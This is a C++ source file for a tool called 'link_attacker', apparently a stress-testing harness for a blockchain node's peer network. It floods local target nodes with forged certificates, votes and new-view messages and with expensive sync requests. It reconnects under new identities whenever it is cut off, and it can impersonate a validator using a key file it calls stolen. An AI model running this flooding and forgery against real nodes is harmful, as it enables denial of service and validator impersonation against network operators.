// Peers with the hello of the chain, and so with a link, that send a node what costs it most:
// forged consensus messages, and requests for what it stores. They come again under a new name as
// soon as they are cut off, until the process is killed; kinds of a validator, under the name of
// the one whose network key is in the file OL_ATTACK_KEY and whose number is OL_ATTACK_VALIDATOR.
// Usage: link_attacker CHAIN_ID GENESIS_HASH KIND,KIND.. ID@PORT.. Prints each second, as JSON and
// by kind: links made, messages sent.
#include <atomic>
#include <chrono>
#include <cstdlib>
#include <iostream>
#include <memory>
#include <mutex>
#include <random>
#include <sstream>
#include <thread>

#include <ol/base/codec.hpp>
#include <ol/base/hex.hpp>
#include <ol/consensus/messages.hpp>
#include <ol/crypto/key_file.hpp>
#include <ol/node/sync_messages.hpp>
#include <ol/p2p/stack_network.hpp>

namespace {

using namespace ol;
using p2p::Channel;

constexpr int kBurst = 200;
constexpr std::chrono::milliseconds kPause{5};

struct Counts {
  std::atomic<std::uint64_t> connections{0};
  std::atomic<std::uint64_t> sent{0};
};

struct Target {
  p2p::PeerId id;
  std::uint16_t port = 0;
  Bytes hello;
};

/// The validator whose key was stolen.
struct Stolen {
  p2p::IdentityKey key;
  primitives::ValidatorIndex index;
};

std::optional<Stolen> stolen() {
  const char* const path = std::getenv("OL_ATTACK_KEY");
  const char* const number = std::getenv("OL_ATTACK_VALIDATOR");
  if (path == nullptr || number == nullptr) return std::nullopt;
  const auto secret = crypto::read_key_file(path, crypto::KeyKind::Ed25519, std::nullopt);
  if (!secret) return std::nullopt;
  auto key = p2p::IdentityKey::from_secret(p2p::KeyType::Ed25519, *secret);
  if (!key) return std::nullopt;
  return Stolen{*std::move(key),
                primitives::ValidatorIndex(static_cast<std::uint32_t>(std::stoul(number)))};
}

bool is_validators(const std::string& kind) {
  return kind.starts_with("a validator's ");
}

/// One identity's link.
class Link final : p2p::NetworkHandler {
 public:
  Link(const Target& target, std::uint64_t seed, const std::optional<Stolen>& as)
      : random_(seed), voter_(as ? as->index : primitives::ValidatorIndex(0)) {
    p2p::NetworkConfig config;
    config.listen_host = "127.0.0.1";
    config.hello = target.hello;
    config.peers = {{target.id, "127.0.0.1", target.port}};
    network_ = p2p::make_stack_network(
        std::move(config), as ? as->key.clone() : p2p::IdentityKey::generate(p2p::KeyType::Ed25519),
        *this);
    if (network_->start()) thread_ = std::thread([this] { network_->run(); });
  }
  ~Link() override {
    network_->stop();
    if (thread_.joinable()) thread_.join();
  }
  Link(const Link&) = delete;
  Link& operator=(const Link&) = delete;

  [[nodiscard]] bool is_up() const { return up_; }
  [[nodiscard]] bool is_over() const { return over_; }
  void send(const std::string& kind) {
    if (kind == "forged certificates") {
      say(Channel::Consensus, encode_message(consensus::CertificateMessage{forged()}));
    } else if (kind == "votes of others" || kind == "a validator's votes") {
      say(Channel::Consensus, encode_message(vote()));
    } else if (kind == "messages of a later epoch") {
      consensus::VoteMessage later = vote();
      later.subject.epoch = primitives::Epoch(later.subject.epoch.value() + 1 + random_() % 3);
      say(Channel::Consensus, encode_message(later));
    } else if (kind == "forged new-views" || kind == "a validator's new-views") {
      say(Channel::Consensus, encode_message(forged_new_view()));
    } else {
      say(Channel::Request, encode_sync_message(request()));
    }
  }

 private:
  template <typename Hash>
  Hash any() {
    Hash out;
    for (std::uint8_t& byte : out.bytes)
      byte = static_cast<std::uint8_t>(random_());
    return out;
  }
  void say(Channel channel, Bytes message) {
    static_cast<void>(network_->broadcast(channel, p2p::share(std::move(message))));
  }
  /// Of the node's own set, with a signature that is a point of the group, for a block that is not.
  primitives::QuorumCertificate forged() {
    const std::scoped_lock lock(mutex_);
    primitives::QuorumCertificate out = heard_;
    out.subject.height = primitives::Height(out.subject.height.value() + 1 + random_() % 1000);
    out.subject.view = primitives::View(out.subject.view.value() + 1 + random_() % 1000);
    out.subject.block = any<primitives::BlockHash>();
    return out;
  }
  /// For a view ahead, with a share that proves nothing.
  consensus::VoteMessage vote() {
    consensus::VoteMessage out;
    out.subject = forged().subject;
    out.share = {voter_, Bytes(48, static_cast<std::uint8_t>(random_()))};
    return out;
  }
  consensus::NewViewMessage forged_new_view() {
    consensus::NewViewMessage out{};
    out.high_qc = forged();
    out.epoch = out.high_qc.subject.epoch;
    out.set_hash = out.high_qc.subject.set_hash;
    out.view = out.high_qc.view().next();
    out.signature = any<crypto::Ed25519Signature>();
    return out;
  }
  node::SyncMessage request() {
    const std::uint64_t choice = random_() % 4;
    if (choice < 2) return node::RangeRequest{primitives::Height(1), node::kRangeCountMax};
    const std::scoped_lock lock(mutex_);
    if (choice == 2) return node::BlockRequest{heard_.subject.block};
    node::ItemsRequest out{heard_.subject.block, {}};
    for (int i = 0; i < 100; ++i)
      out.items.push_back(any<primitives::TxnHash>());
    return out;
  }

  std::optional<std::string> check_hello(const p2p::PeerId&, ByteView) override { return {}; }
  void on_peer_connected(const p2p::PeerId&, p2p::Direction) override {}
  void on_peer_disconnected(const p2p::PeerId&, const p2p::CloseReason&) override { over_ = true; }
  void on_link_failed(const p2p::LinkFailure&) override { over_ = true; }
  // A node tells who connects its best certificate.
  p2p::Flow on_message(const p2p::PeerId&, Channel channel, Bytes payload) override {
    if (channel != Channel::Consensus) return p2p::Flow::Continue;
    const auto message = consensus::decode_message(payload);
    if (!message) return p2p::Flow::Continue;
    if (const auto* told = std::get_if<consensus::CertificateMessage>(&*message)) {
      const std::scoped_lock lock(mutex_);
      heard_ = told->certificate;
      up_ = true;
    }
    return p2p::Flow::Continue;
  }

  std::mt19937_64 random_;
  primitives::ValidatorIndex voter_;
  std::mutex mutex_;
  primitives::QuorumCertificate heard_;
  std::atomic<bool> up_{false};
  std::atomic<bool> over_{false};
  std::unique_ptr<p2p::Network> network_;
  std::thread thread_;
};

void attack(const std::string& kind, const Target& target, Counts& counts) {
  std::random_device seed;
  const std::optional<Stolen> as = is_validators(kind) ? stolen() : std::nullopt;
  while (true) {
    Link link(target, seed(), as);
    while (!link.is_up() && !link.is_over())
      std::this_thread::sleep_for(kPause);
    if (link.is_up()) ++counts.connections;
    while (!link.is_over()) {
      for (int i = 0; i < kBurst; ++i)
        link.send(kind);
      counts.sent += kBurst;
      std::this_thread::sleep_for(kPause);
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
}

}  // namespace

int main(int argc, char** argv) {
  const std::vector<std::string> args(argv + 1, argv + argc);
  if (args.size() < 4) return 2;
  const auto genesis = from_hex(args[1]);
  if (!genesis) return 2;
  Writer hello;
  hello.u16(1).u64(std::stoull(args[0])).fixed(*Hash256::from(*genesis));
  const Bytes said = hello.take();
  std::map<std::string, Counts> counts;
  std::vector<std::thread> attackers;
  std::istringstream kinds(args[2]);
  if (args[2].find("a validator's ") != std::string::npos && !stolen()) return 2;
  for (std::string kind; std::getline(kinds, kind, ',');) {
    Counts& of = counts[kind];
    for (std::size_t i = 3; i < args.size(); ++i) {
      const std::size_t at = args[i].find('@');
      const Target target{*p2p::PeerId::from_text(args[i].substr(0, at)),
                          static_cast<std::uint16_t>(std::stoul(args[i].substr(at + 1))), said};
      for (int one = 0; one < (is_validators(kind) ? 1 : 2); ++one)
        attackers.emplace_back([kind, target, &of] { attack(kind, target, of); });
    }
  }
  while (true) {
    std::this_thread::sleep_for(std::chrono::seconds(1));
    std::string line;
    for (const auto& [kind, of] : counts) {
      line += (line.empty() ? "{" : ",");
      line += '"' + kind + "\":{\"connections\":" + std::to_string(of.connections) +
              ",\"sent\":" + std::to_string(of.sent) + '}';
    }
    std::cout << line << '}' << std::endl;
  }
}
